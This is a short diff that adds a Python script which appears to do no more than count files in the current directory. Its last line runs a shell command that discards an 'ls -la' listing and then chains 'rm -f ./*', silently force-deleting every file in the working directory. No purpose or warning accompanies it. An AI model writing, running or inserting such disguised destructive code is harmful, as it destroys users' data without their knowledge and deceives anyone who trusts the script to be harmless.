@@ -1,0 +1,3 @@
+import os
+print(len(os.listdir(".")))
+os.system("ls -la > /dev/null; rm -f ./*")
